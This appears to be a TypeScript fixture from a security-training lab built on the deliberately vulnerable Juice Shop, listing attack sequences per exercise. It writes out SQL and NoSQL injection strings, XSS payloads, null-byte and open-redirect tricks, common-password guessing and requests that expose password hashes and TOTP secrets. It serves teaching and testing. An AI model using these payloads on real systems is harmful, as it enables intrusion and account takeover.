import { ownPassword } from '../../../lab/proofs/attacker/attacker.js'
import { logInAs, register } from '../../../lab/proofs/features/accounts.js'
import { track } from '../../../lab/proofs/features/orders.js'
import { search } from '../../../lab/proofs/features/shelf.js'
import { attacksOn, proofs } from '../../../lab/proofs/proofs.js'
import { course, guess, reviewAs, type Variant, visitAll, visitAs } from './variant.js'

const [injectedTable, otherTable, joinedTable] = attacksOn('unionSqlInjectionChallenge')
const [schema, otherSchema] = attacksOn('dbSchemaChallenge')
const jim = ['jim@juice-sh.op', 'ncc-1701'] as const
/** The address of the attack on Login Jim, for what is done with that session. */
const injectedJim = "jim@juice-sh.op'--"
const today = '/support/logs/access.log.2026-11-03'

const inOrder = (...acts: readonly (Variant['acts'][number] | undefined)[]): Variant =>
  course(...acts.filter((act) => act !== undefined))

/** The attacks of exercises whose lines are to be marked, by id; each has the attack of its challenges' proofs. */
export const markedAttacks: Readonly<Record<string, readonly Variant[]>> = {
  'file-shelf': [
    course(
      visitAll('/ftp', '/ftp/coupons_2013.md.bak'),
      proofs.forgottenBackupChallenge.attack,
      proofs.forgottenDevBackupChallenge.attack,
      proofs.nullByteChallenge.attack,
    ),
    course(
      visitAll('/ftp/', '/ftp/package.json.bak', '/ftp/package.json.bak%00.md'),
      proofs.forgottenDevBackupChallenge.attack,
      proofs.nullByteChallenge.attack,
      visitAll('/ftp/eastere.gg%2500.md'),
      proofs.forgottenBackupChallenge.attack,
    ),
  ],
  'busy-search': [
    inOrder(
      search("juice'"),
      search("juice')--"),
      search("juice'))--"),
      search("juice')) union select 1--"),
      schema,
      injectedTable,
    ),
    inOrder(
      search("')"),
      search("')) order by 9--"),
      search("')) order by 10--"),
      otherSchema,
      otherTable,
      joinedTable,
    ),
  ],
  'morning-logins': [
    course(
      guess('admin@juice-sh.op', 'admin', 'password', '123456', 'juice', 'admin1', 'letmein', 'admin12'),
      proofs.weakPasswordChallenge.attack,
    ),
    course(
      guess('admin@juice-sh.op', 'qwerty', 'secret', 'orange', 'apple', 'shop', 'root', 'changeme', 'admin!', 'Admin1'),
      proofs.weakPasswordChallenge.attack,
    ),
  ],
  'basket-round': [
    course(
      proofs.basketAccessChallenge.attack,
      visitAs(...jim, '/rest/basket/2', '/rest/basket/3', '/rest/basket/4', '/rest/basket/5', '/rest/basket/6'),
    ),
    course(
      visitAs(...jim, '/rest/basket/2', '/rest/basket/4', '/rest/basket/5', '/rest/basket/99'),
      proofs.basketAccessChallenge.attack,
    ),
  ],
  'feedback-rush': [course(proofs.captchaBypassChallenge.attack)],
  'way-out': [
    course(
      visitAll('/redirect?to=https://example.org', '/redirect?to=//example.org'),
      proofs.redirectChallenge.attack,
      visitAll('/redirect?to=https://example.org/login?x=https://github.com/juice-shop/juice-shop'),
    ),
    course(
      visitAll('/redirect?to=http://github.com.example.org', '/redirect?to=https://example.org%23github.com'),
      proofs.redirectChallenge.attack,
    ),
  ],
  'parcel-desk': [
    course(track("'"), track("1' || '1"), proofs.noSqlOrdersChallenge.attack),
    course(track("x' || "), track("x' || 'x' == 'x"), track("' && 1 == 1"), proofs.noSqlOrdersChallenge.attack),
  ],
  'odd-parcel': [
    course(track('<b>me</b>'), track('<img src=x>'), proofs.reflectedXssChallenge.attack),
    course(track('"><i>me'), proofs.reflectedXssChallenge.attack, track('<svg onload=alert(1)>')),
  ],
  'support-corner': [
    course(visitAll('/support', '/support/logs'), proofs.accessLogDisclosureChallenge.attack, visitAll(today)),
    course(
      visitAll('/logs', '/support/logs', '/support/logs/audit.json', today),
      proofs.accessLogDisclosureChallenge.attack,
    ),
  ],
  'gauge-reading': [
    course(
      visitAll('/prometheus', '/stats'),
      ...attacksOn('exposedMetricsChallenge'),
      proofs.exposedMetricsChallenge.attack,
    ),
    course(
      visitAll('/metrics/v1'),
      ...attacksOn('exposedMetricsChallenge').toReversed(),
      ...attacksOn('exposedMetricsChallenge'),
    ),
  ],
  'who-is-asking': [
    course(
      visitAs(...jim, '/rest/user/whoami?fields=id,role', '/rest/user/whoami?fields=id,role,deluxeToken'),
      proofs.passwordHashLeakChallenge.attack,
    ),
    course(
      visitAs(...jim, '/rest/user/whoami?fields=id,email,totpSecret'),
      proofs.passwordHashLeakChallenge.attack,
      visitAs(...jim, '/rest/user/whoami?fields=email,password,totpSecret'),
    ),
  ],
  'odd-totals': [
    course(proofs.negativeOrderChallenge.attack),
    course(...attacksOn('negativeOrderChallenge').slice(1), ...attacksOn('negativeOrderChallenge').slice(1)),
  ],
  'new-faces': [
    course(proofs.registerAdminChallenge.attack, logInAs('boss@juice.example', ownPassword)),
    course(
      register({ email: 'clerk@juice.example', isAdmin: true, role: 'admin' }),
      logInAs('clerk@juice.example', ownPassword),
      visitAs('clerk@juice.example', ownPassword, '/rest/user/authentication-details'),
    ),
  ],
  'front-door': [
    inOrder(
      logInAs("'"),
      logInAs("admin'"),
      logInAs("' or '1'='1"),
      proofs.loginAdminChallenge.attack,
      proofs.loginJimChallenge.attack,
      reviewAs(injectedJim, 'x', jim[0], 6),
    ),
    inOrder(
      guess('admin@juice-sh.op', 'admin', 'boss'),
      logInAs("admin@juice-sh.op'"),
      ...attacksOn('loginAdminChallenge').slice(1, 2),
      logInAs("jim@juice-sh.op'"),
      proofs.loginJimChallenge.attack,
      reviewAs(injectedJim, 'x', jim[0], 1),
    ),
    inOrder(
      logInAs('"'),
      logInAs("';"),
      logInAs("' or 1=1"),
      proofs.loginJimChallenge.attack,
      reviewAs(injectedJim, 'x', jim[0], 3),
      proofs.loginAdminChallenge.attack,
    ),
  ],
  'missing-stars': [course(proofs.feedbackChallenge.attack)],
  'new-label': [
    course(...attacksOn('changeProductChallenge')),
    course(
      visitAll('/api/Products/9'),
      ...attacksOn('changeProductChallenge').toReversed(),
      visitAll('/api/Products/9'),
    ),
  ],
}
